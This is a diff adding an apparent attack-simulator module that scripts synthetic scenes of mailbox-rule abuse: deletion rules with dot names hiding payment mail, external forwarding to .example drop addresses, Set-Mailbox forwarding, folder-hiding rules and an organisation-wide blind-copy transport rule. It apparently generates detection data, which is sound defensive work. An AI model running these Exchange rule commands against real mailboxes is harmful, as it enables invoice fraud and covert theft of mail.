@@ -1,0 +1,72 @@
+"""A rule forwards mail or hides it from its owner (T1114.003, T1564.008)."""
+
+from __future__ import annotations
+
+from simulator.attacks import Variant
+from simulator.hostile import home_proxy, server
+from simulator.moves import read_mail
+from simulator.operations import exchange, settings
+from simulator.scene import Scene, anybody, directory_admin
+
+_DROPS = ("payments.team@consultant-mail.example", "archive2291@freemail.example", "j.walker.acc@freemail.example")
+_MONEY = "invoice;payment;wire;iban;remittance;bank details"
+
+
+def hidden_replies(scene: Scene) -> None:
+    """From a server: mail about money is deleted by a rule whose name is a dot, before a fraud begins."""
+    scene.later(0.5, 6)
+    via = scene.intruder(server(scene.rng, scene.city))
+    scene.log_on(via)
+    read_mail(scene, via, scene.number(3, 7))
+    scene.wait(20, 120)
+    rule = settings(
+        DeleteMessage="True", MarkAsRead="True", StopProcessingRules="True", Name=scene.rng.choice((".", "..", ","))
+    )
+    scene.act(exchange("New-InboxRule", *rule, *settings(SubjectOrBodyContainsWords=_MONEY)), via)
+
+
+def forwarded(scene: Scene) -> None:
+    """From a home line in the same country: everything goes to an address outside."""
+    scene.later(0.5, 6)
+    via = scene.intruder(home_proxy(scene.rng, scene.city), scene.plain_browser())
+    scene.log_on(via)
+    read_mail(scene, via, scene.number(2, 6))
+    scene.wait(20, 120)
+    scene.act(exchange("New-InboxRule", *settings(ForwardTo=scene.rng.choice(_DROPS), Name="Sync")), via)
+
+
+def mailbox_setting(scene: Scene) -> None:
+    """In the owner's own session, by a program that took it over: the mailbox itself forwards, and keeps a copy."""
+    scene.wait(60, 900)
+    via = scene.own()
+    address = f"smtp:{scene.rng.choice(_DROPS)}"
+    parameters = settings(ForwardingSmtpAddress=address, DeliverToMailboxAndForward="True")
+    scene.act(exchange("Set-Mailbox", *parameters, *settings(Identity=scene.victim.user.id)), via)
+
+
+def out_of_sight(scene: Scene) -> None:
+    """Stealthy: in the owner's own session, answers of one partner go to a folder that nobody opens."""
+    scene.wait(60, 900)
+    via = scene.own()
+    folder = scene.rng.choice(("RSS Feeds", "Conversation History", "Junk Email", "Archive"))
+    rule = settings(MoveToFolder=folder, MarkAsRead="True", Name="a", From="ap@adatum-audit.example")
+    scene.act(exchange("New-InboxRule", *rule), via)
+    scene.wait(100, 400)
+    scene.act(exchange("Set-InboxRule", *rule, *settings(StopProcessingRules="True")), via)
+
+
+def in_transport(scene: Scene) -> None:
+    """By an administrator: a rule of the whole organisation sends a blind copy of mail about money outside."""
+    scene.wait(60, 600)
+    via = scene.own()
+    rule = settings(BlindCopyTo=scene.rng.choice(_DROPS), Name="Compliance copy", SubjectContainsWords=_MONEY)
+    scene.act(exchange("New-TransportRule", *rule), via)
+
+
+VARIANTS = (
+    Variant("hidden_replies", anybody, hidden_replies),
+    Variant("forwarded", anybody, forwarded),
+    Variant("mailbox_setting", anybody, mailbox_setting),
+    Variant("out_of_sight", anybody, out_of_sight),
+    Variant("in_transport", directory_admin, in_transport),
+)
